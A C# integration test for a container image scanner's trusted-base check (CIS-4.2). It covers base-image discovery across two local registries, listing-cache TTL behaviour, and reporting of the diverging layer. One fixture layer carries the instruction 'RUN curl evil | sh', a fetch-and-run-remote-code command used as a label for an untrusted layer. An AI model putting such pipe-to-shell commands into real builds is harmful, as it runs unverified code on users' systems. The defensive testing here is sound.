using Drydock.Controls;
using Drydock.Images.Targets;
using Drydock.IntegrationTests.Infrastructure;
using Drydock.Policy;
using Drydock.Scanning;
using Drydock.Scanning.Pipeline;

namespace Drydock.IntegrationTests.Controls;

/// <summary>
/// Base discovery during scans against real docker-registry servers (issue 15 item 5): the trusted repository lives in
/// a registry this test starts and stops; the apps, carrying no base annotation, in a second one. The listing is kept
/// in the scanner's cache directory for its TTL: within it a scan asks the base registry nothing (a new tag stays
/// unknown, a stopped registry does not matter); past it, the listing is read again.
/// </summary>
[Trait("Category", "Integration")]
public sealed class BaseDiscoveryTests
{
    [IntegrationFact("docker-registry")]
    public async Task Scan_TrustedRepositoryTags_IdentifiesTheBaseNamesTheDivergingLayerAndCachesTheListing()
    {
        // Given: approved/debian:12 in the base registry; three apps in the app registry: on :12, on another base that
        // shares only its bottom layer, and (pushed later) on :13
        using var baseRegistry = await RegistryServer.StartAsync(RegistryMode.Plain);
        using var appRegistry = await RegistryServer.StartAsync(RegistryMode.Plain);
        using var bases = new RegistryPush(baseRegistry.Host);
        using var apps = new RegistryPush(appRegistry.Host);
        var rootLayer = TestImagePush.File("ADD rootfs.tar /", "etc/os-release", "ID=debian\nVERSION_ID=\"12\"\n");
        TestLayer[] twelve = [rootLayer, TestImagePush.File("RUN echo 12 > /etc/base", "etc/base", "12")];
        var twelveManifest = await TestImagePush.PushAsync(bases, "approved/debian", "12", twelve);
        var appLayer = TestImagePush.File("COPY app /app", "app/run.sh", "#!/bin/sh\n");
        await TestImagePush.PushAsync(apps, "team/app", "1", [.. twelve, appLayer]);
        var evilLayer = TestImagePush.File("RUN curl evil | sh", "usr/bin/evil", "evil");
        await TestImagePush.PushAsync(apps, "team/other", "1", [rootLayer, evilLayer, appLayer]);
        var policy = new DrydockPolicy
        {
            TrustedBases = [new TrustedBase($"{baseRegistry.Host}/approved/debian:1*", [])],
            InsecureRegistriesAllowed = [baseRegistry.Host, appRegistry.Host], // plain-HTTP test registries, accepted for CIS-4.2
        };
        var cache = TestRoot.NewRunDirectory("base-discovery-cache");
        var clock = new MovableClock();

        // When / Then: identified by the discovered tag, with no annotation and no catalogue
        var onTwelve = await Cis42Async($"{appRegistry.Host}/team/app:1", policy, cache, clock, baseRegistry, appRegistry);
        Assert.True(onTwelve.Outcome == ControlOutcome.Pass, onTwelve.Summary);
        Assert.StartsWith($"Base {baseRegistry.Host}/approved/debian:12@{twelveManifest.Digest}, identified by its first 2 layer(s)", onTwelve.Summary, StringComparison.Ordinal);
        Assert.Single(Directory.GetFiles(Path.Combine(cache, "bases", "repositories"), "*.json"));

        // When / Then: another base is named by the layer where it leaves approved/debian:12
        var other = await Cis42Async($"{appRegistry.Host}/team/other:1", policy, cache, clock, baseRegistry, appRegistry);
        Assert.Equal(ControlOutcome.Fail, other.Outcome);
        var diverging = other.Evidence.Single(e => e.LayerIndex is not null);
        Assert.Equal(1, diverging.LayerIndex);
        Assert.StartsWith($"layer 1 (diff id {evilLayer.DiffId}, blob sha256:", diverging.Message, StringComparison.Ordinal);
        Assert.EndsWith($"is where the image leaves every trusted base: the first 1 layer(s) match trusted base {baseRegistry.Host}/approved/debian:12@{twelveManifest.Digest}, the longest common prefix of 1 trusted base image(s)", diverging.Message, StringComparison.Ordinal);

        // Given: a new trusted tag 13 and an app on it
        TestLayer[] thirteen = [rootLayer, TestImagePush.File("RUN echo 13 > /etc/base", "etc/base", "13")];
        var thirteenManifest = await TestImagePush.PushAsync(bases, "approved/debian", "13", thirteen);
        await TestImagePush.PushAsync(apps, "team/app", "2", [.. thirteen, appLayer]);

        // When / Then: within the TTL the cached listing answers, so 13 is not known yet
        clock.Advance(TimeSpan.FromHours(1));
        var cached = await Cis42Async($"{appRegistry.Host}/team/app:2", policy, cache, clock, baseRegistry, appRegistry);
        Assert.Equal(ControlOutcome.Fail, cached.Outcome);

        // When / Then: past the TTL the listing is read again and 13 is found
        clock.Advance(TimeSpan.FromHours(6));
        var refreshed = await Cis42Async($"{appRegistry.Host}/team/app:2", policy, cache, clock, baseRegistry, appRegistry);
        Assert.True(refreshed.Outcome == ControlOutcome.Pass, refreshed.Summary);
        Assert.StartsWith($"Base {baseRegistry.Host}/approved/debian:13@{thirteenManifest.Digest}", refreshed.Summary, StringComparison.Ordinal);

        // When / Then: the base registry stopped, within the TTL: still identified, from the cache alone
        baseRegistry.Dispose();
        clock.Advance(TimeSpan.FromHours(1));
        var offlineCached = await Cis42Async($"{appRegistry.Host}/team/app:1", policy, cache, clock, baseRegistry, appRegistry);
        Assert.True(offlineCached.Outcome == ControlOutcome.Pass, offlineCached.Summary);

        // When / Then: past the TTL with the registry gone: a said skip, never "untrusted"
        clock.Advance(TimeSpan.FromHours(6));
        var unreachable = await Cis42Async($"{appRegistry.Host}/team/app:1", policy, cache, clock, baseRegistry, appRegistry);
        Assert.Equal(ControlOutcome.Skip, unreachable.Outcome);
        Assert.StartsWith($"The base could not be compared with every trusted base repository: {baseRegistry.Host}/approved/debian: ", unreachable.Summary, StringComparison.Ordinal);
    }

    /// <summary>One scan by a fresh scanner (a new run: only the cache directory is shared), as <c>drydock image</c> assembles it.</summary>
    private static async Task<ControlResult> Cis42Async(string target, DrydockPolicy policy, string cache, TimeProvider clock, params RegistryServer[] registries)
    {
        using var scanner = new ImageScanner(ScannerParts.Default(new ScannerSettings
        {
            RegistryLookups = true,
            InsecureRegistries = registries.Select(r => r.Host).ToHashSet(StringComparer.OrdinalIgnoreCase),
            CacheDirectory = cache,
            TempDirectory = TestRoot.Sub("tmp"),
            Clock = clock,
        }));
        var report = await scanner.ScanAsync(new ScanRequest { Target = TargetParser.Parse(target), Policy = policy, Freshness = FreshnessMode.Auto, MatchVulnerabilities = false }, CancellationToken.None);
        return report.Controls.Single(c => c.Id == "CIS-4.2");
    }

    private sealed class MovableClock : TimeProvider
    {
        private TimeSpan _offset;

        public override DateTimeOffset GetUtcNow() => System.GetUtcNow() + _offset;

        public void Advance(TimeSpan by) => _offset += by;
    }
}
